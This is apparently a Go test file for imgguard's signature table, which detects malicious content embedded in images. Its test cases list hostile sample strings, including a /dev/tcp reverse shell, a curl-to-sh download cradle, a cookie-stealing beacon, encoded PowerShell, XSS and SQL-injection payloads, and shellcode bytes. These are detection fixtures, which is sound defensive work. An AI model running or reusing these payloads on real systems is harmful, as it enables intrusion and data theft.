package signature

import (
	"errors"
	"sync"
	"testing"

	"github.com/nao1215/imgguard/internal/model"
)

// TestDefault verifies the embedded table loads and has sane entries.
func TestDefault(t *testing.T) {
	t.Parallel()

	table := Default()
	if table.Len() == 0 {
		t.Fatal("expected embedded signatures")
	}

	seen := make(map[string]bool)
	for _, e := range table.Entries() {
		if seen[e.ID] {
			t.Errorf("duplicate signature id %s", e.ID)
		}
		seen[e.ID] = true
		if e.Severity < model.SeverityLow || e.Severity > model.SeverityHigh {
			t.Errorf("signature %s has invalid severity %v", e.ID, e.Severity)
		}
	}
}

// TestTableMatch tests matching of extracted text against the default table.
func TestTableMatch(t *testing.T) {
	t.Parallel()

	testCases := []struct {
		name       string
		text       string
		expectedID string
	}{
		{"script tag", `<script>alert(1)</script>`, "script_tag"},
		{"uppercase script tag", `<SCRIPT src=x>`, "script_tag"},
		{"javascript uri", `href="JavaScript:void(0)"`, "javascript_uri"},
		{"eval call", `eval (atob("ZXZpbA=="))`, "eval_call"},
		{"cookie theft", `new Image().src="x?"+document.cookie`, "cookie_access"},
		{"php tag", `<?php echo 1; ?>`, "php_tag"},
		{"shell exec", `shell_exec("id")`, "shell_exec"},
		{"powershell", `powershell -enc SQBFAFgA`, "powershell_encoded"},
		{"cmd", `cmd.exe /c whoami `, "cmd_exe"},
		{"unix shell", `exec 0</dev/tcp/1.2.3.4/80; /bin/bash -i`, "unix_shell"},
		{"download cradle", `curl -s https://x.example/p | sh`, "download_cradle"},
		{"iframe", `<iframe src="https://x.example">`, "iframe_tag"},
		{"event handler", `<img src=x onerror=alert(1)>`, "event_handler"},
		{"sql injection", `name=' OR '1'='1`, "sql_injection"},
		{"escaped bytes", `\x31\xc0\x50\x68\x2f\x2f\x73\x68`, "hex_shellcode"},
	}

	table := Default()
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			entry, ok := table.Match(tc.text)
			if !ok {
				t.Fatalf("expected %q to match", tc.text)
			}
			if entry.ID != tc.expectedID {
				t.Errorf("expected %s, got %s", tc.expectedID, entry.ID)
			}
		})
	}
}

// TestTableNoMatch verifies benign text does not match.
func TestTableNoMatch(t *testing.T) {
	t.Parallel()

	table := Default()
	for _, text := range []string{
		"",
		"UUUUUUUUUUUU",
		"Holiday photo, Kyoto 2024",
		"The system was described in the evaluation",
		"description of a scripted scene",
	} {
		if entry, ok := table.Match(text); ok {
			t.Errorf("expected no match for %q, got %s", text, entry.ID)
		}
	}
}

// TestNew tests table construction errors and defaults.
func TestNew(t *testing.T) {
	t.Parallel()

	t.Run("empty entries", func(t *testing.T) {
		t.Parallel()
		if _, err := New(nil); !errors.Is(err, ErrNoSignatures) {
			t.Errorf("expected ErrNoSignatures, got %v", err)
		}
	})

	t.Run("missing pattern", func(t *testing.T) {
		t.Parallel()
		_, err := New([]Entry{{ID: "x"}})
		if !errors.Is(err, ErrInvalidSignature) {
			t.Errorf("expected ErrInvalidSignature, got %v", err)
		}
	})

	t.Run("bad regex", func(t *testing.T) {
		t.Parallel()
		_, err := New([]Entry{{ID: "x", Pattern: "("}})
		if !errors.Is(err, ErrInvalidSignature) {
			t.Errorf("expected ErrInvalidSignature, got %v", err)
		}
	})

	t.Run("defaults severity and name", func(t *testing.T) {
		t.Parallel()
		table, err := New([]Entry{{ID: "marker", Pattern: "MARK"}})
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		entry, ok := table.Match("xxMARKxx")
		if !ok {
			t.Fatal("expected match")
		}
		if entry.Severity != model.SeverityMedium || entry.Name != "marker" {
			t.Errorf("unexpected defaults %+v", entry)
		}
	})

	t.Run("table order decides between matches", func(t *testing.T) {
		t.Parallel()
		table, err := New([]Entry{
			{ID: "first", Pattern: "abc", Keywords: []string{"abc"}, Severity: model.SeverityLow},
			{ID: "second", Pattern: "a", Severity: model.SeverityHigh},
		})
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		entry, _ := table.Match("zzabczz")
		if entry.ID != "first" {
			t.Errorf("expected first, got %s", entry.ID)
		}
	})

	t.Run("keyword prefilter skips entries", func(t *testing.T) {
		t.Parallel()
		table, err := New([]Entry{
			{ID: "gated", Pattern: "x", Keywords: []string{"needle"}},
		})
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		if _, ok := table.Match("xxxx"); ok {
			t.Error("expected keyword gate to skip the entry")
		}
		if _, ok := table.Match("xx NEEDLE"); !ok {
			t.Error("expected match once the keyword is present")
		}
	})
}

// TestLoad tests parsing YAML signature files.
func TestLoad(t *testing.T) {
	t.Parallel()

	t.Run("valid yaml", func(t *testing.T) {
		t.Parallel()
		table, err := Load([]byte(`
version: "1"
signatures:
  - id: vbs
    name: VBScript
    pattern: '(?i)createobject\('
    severity: low
    keywords: [createobject]
`))
		if err != nil {
			t.Fatalf("unexpected error: %v", err)
		}
		entry, ok := table.Match(`Set o = CreateObject("WScript.Shell")`)
		if !ok || entry.Severity != model.SeverityLow {
			t.Errorf("unexpected match result %+v %v", entry, ok)
		}
	})

	t.Run("unknown severity", func(t *testing.T) {
		t.Parallel()
		_, err := Load([]byte(`
signatures:
  - id: x
    pattern: x
    severity: critical
`))
		if err == nil {
			t.Error("expected error for unknown severity")
		}
	})

	t.Run("malformed yaml", func(t *testing.T) {
		t.Parallel()
		if _, err := Load([]byte("signatures: [")); err == nil {
			t.Error("expected parse error")
		}
	})
}

// TestMatchConcurrent verifies the table can be shared across goroutines.
func TestMatchConcurrent(t *testing.T) {
	t.Parallel()

	table := Default()
	var wg sync.WaitGroup
	for i := 0; i < 16; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 50; j++ {
				if _, ok := table.Match("<script>x</script>"); !ok {
					t.Error("expected match")
					return
				}
			}
		}()
	}
	wg.Wait()
}
